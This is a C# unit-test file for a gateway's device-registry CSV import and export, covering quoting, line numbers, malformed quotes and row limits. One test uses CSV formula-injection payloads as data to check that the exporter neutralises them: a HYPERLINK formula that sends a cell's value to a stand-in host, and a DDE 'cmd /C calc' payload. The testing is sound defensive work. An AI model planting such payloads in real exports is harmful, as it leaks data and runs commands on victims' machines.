using Anshimi.Gateway.Provisioning;
using Anshimi.Gateway.Storage;
using Anshimi.Protocol.Upstream;
using FsCheck;
using FsCheck.Fluent;

namespace Anshimi.Gateway.Tests.Provisioning;

/// <summary>The registry CSV on its own: quoting, line numbers and structural problems.</summary>
public sealed class RegistryCsvTests
{
    private const string Header = "device_id,site_kind,address,latitude,longitude,site_ref";

    private static (IReadOnlyList<CsvRow> Rows, List<CsvProblem> Problems) Parse(string text)
    {
        var problems = new List<CsvProblem>();
        return (RegistryCsv.Parse(text, problems), problems);
    }

    private static DeviceRow Device(string address, string? firmware = "1.2.0") => new(
        "0000A1B2", DeviceState.Active, "home-panic", firmware, new SiteInfo("home", 37.5665, 126.978, address),
        "11140", "R-1234", new DateTimeOffset(2025, 3, 1, 9, 30, 0, TimeSpan.Zero), null, null, 87, 0);

    [Fact]
    public void Export_quotes_only_the_fields_that_need_it_and_ends_records_with_CRLF()
    {
        string csv = RegistryCsv.Export([Device("서울특별시 중구 세종대로 110")]);

        Assert.Equal(
            string.Join(',', RegistryCsv.Columns) + "\r\n"
            + "0000A1B2,active,home-panic,1.2.0,home,서울특별시 중구 세종대로 110,37.5665,126.978,11140,R-1234,2025-03-01T09:30:00Z,,,87,0\r\n",
            csv);
    }

    [Theory]
    [InlineData("중구, 세종대로 110")]
    [InlineData("the \"old\" hall")]
    [InlineData("line one\r\nline two")]
    [InlineData("line one\nline two")]
    [InlineData(" leading space")]
    [InlineData("trailing space ")]
    public void An_export_reads_back_field_for_field(string address)
    {
        string csv = RegistryCsv.Export([Device(address, firmware: null), Device("plain")]);
        Assert.Contains('"' + address.Replace("\"", "\"\"", StringComparison.Ordinal) + '"', csv, StringComparison.Ordinal);

        (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse(csv);

        Assert.Empty(problems);
        Assert.Equal(2, rows.Count);
        Assert.Equal(address, rows[0].Fields["address"]);
        Assert.Equal("", rows[0].Fields["firmware_version"]);
        Assert.Equal("plain", rows[1].Fields["address"]);
        Assert.Equal(2, rows[0].Row);
        Assert.Equal(2 + address.Count(c => c == '\n') + 1, rows[1].Row);
    }

    [Theory]
    [Trait("Category", "Privacy")]
    [InlineData("=HYPERLINK(\"http://x/?\"&A2,\"x\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_formula_like_field_is_exported_as_text_and_imports_back_unchanged(string address)
    {
        string csv = RegistryCsv.Export([Device(address)]);

        // A spreadsheet shows a field that starts with ' as text; the field is quoted so the ' stays its first character.
        Assert.Contains(",\"'" + address.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", csv, StringComparison.Ordinal);
        Assert.DoesNotContain("," + address, csv, StringComparison.Ordinal);
        Assert.Equal(address, Assert.Single(Parse(csv).Rows).Fields["address"]);
    }

    [Theory]
    [InlineData("\r\n")]
    [InlineData("\n")]
    public void Rows_are_numbered_by_the_line_they_start_on_when_a_quoted_field_spans_lines(string newLine)
    {
        string csv = string.Join(newLine,
            Header,
            "0000A1B2,home,\"서울특별시 중구",
            "세종대로 110\",37.5665,126.9780,R-1",
            "",
            "0000C3D4,shop,x,37.5,126.9,R-2");

        (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse(csv + newLine);
        Assert.Empty(problems);
        Assert.Equal([2, 5], rows.Select(r => r.Row));
        Assert.Equal("서울특별시 중구" + newLine + "세종대로 110", rows[0].Fields["address"]);

        // A short row after them is named by its own line, and the file gives no rows.
        (rows, problems) = Parse(csv + newLine + "0000E5F6,home,x,37.5" + newLine);
        CsvProblem problem = Assert.Single(problems);
        Assert.Equal(new CsvProblem(6, "", "field_count", "has 4 fields, the header 6"), problem);
        Assert.Empty(rows);
    }

    [Fact]
    public void A_quote_never_closed_is_a_problem_of_the_line_it_opens_on()
    {
        (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse(
            Header + "\r\n0000A1B2,home,\"two\r\nlines\",37.5,126.9,R-1\r\n0000C3D4,shop,\"open,37.5,126.9,R-2\r\n0000E5F6,home,x,37.5,126.9,R-3\r\n");

        Assert.Empty(rows);
        Assert.Equal([new CsvProblem(4, "", "bad_quote", "a quoted field is never closed")], problems);
    }

    [Theory]
    [InlineData("0000C3D4,shop,12\" display,37.5,126.9,R-2", "a quote inside an unquoted field")]
    [InlineData("0000C3D4,shop, \"x\",37.5,126.9,R-2", "a quote inside an unquoted field")]
    [InlineData("0000C3D4,shop,\"x\"y,37.5,126.9,R-2", "text after the closing quote of a quoted field")]
    public void A_misplaced_quote_refuses_the_whole_file_at_the_line_its_record_starts(string bad, string message)
    {
        (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse(
            Header + "\r\n0000A1B2,home,\"two\r\nlines\",37.5,126.9,R-1\r\n" + bad + "\r\n0000E5F6,home,x,37.5,126.9,R-3\r\n");

        Assert.Empty(rows);
        Assert.Equal([new CsvProblem(4, "", "bad_quote", message)], problems);
    }

    [Fact]
    public void A_byte_order_mark_and_blank_lines_are_not_data()
    {
        (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse("\uFEFF" + Header + "\r\n\r\n0000A1B2,home,x,37.5,126.9,R-1\r\n\r\n");

        Assert.Empty(problems);
        CsvRow row = Assert.Single(rows);
        Assert.Equal(3, row.Row);
        Assert.Equal("0000A1B2", row.Fields["device_id"]);
    }

    [Fact]
    public void The_header_is_checked_and_the_separator_is_always_a_comma()
    {
        Assert.Equal([new CsvProblem(1, "", "empty", "the file is empty; the first line must name the columns")], Parse("").Problems);
        Assert.Contains(new CsvProblem(1, "site_ref", "duplicate_column", "the header names site_ref twice"), Parse(Header + ",Site_Ref\r\n").Problems);
        Assert.Equal(RegistryCsv.ImportColumns.Length, Parse(Header.Replace(',', ';') + "\r\n0000A1B2;home;x;37.5;126.9;R-1\r\n").Problems.Count(p => p.Code == "missing_column"));
    }

    [Fact]
    public void Random_text_full_of_quotes_separators_and_line_breaks_never_throws_and_names_real_lines()
    {
        Gen<string> body = Gen.Elements('"', ',', '\r', '\n', 'a', '1', ' ', '\uFEFF', '\0', '가', '=').ArrayOf().Select(chars => new string(chars));
        Gen<string> text = Gen.OneOf(body, body.Select(b => Header + "\n" + b), body.Select(b => Header + "\r\n0000A1B2,home," + b));
        Prop.ForAll(text.ToArbitrary(), t =>
        {
            (IReadOnlyList<CsvRow> rows, List<CsvProblem> problems) = Parse(t);
            int lines = 1 + t.Count(c => c is '\n' or '\r');
            return problems.All(p => p.Row >= 1 && p.Row <= lines + 1) && rows.All(r => r.Row >= 2 && r.Row <= lines);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(2000));
    }

    [Fact]
    public void More_rows_than_the_limit_are_refused()
    {
        string csv = Header + "\r\n" + string.Concat(Enumerable.Repeat("0000A1B2,home,x,37.5,126.9,R-1\r\n", RegistryCsv.MaxRows + 1));

        Assert.Equal([new CsvProblem(RegistryCsv.MaxRows + 2, "", "too_many_rows", "at most " + RegistryCsv.MaxRows + " rows per import")], Parse(csv).Problems);
    }
}
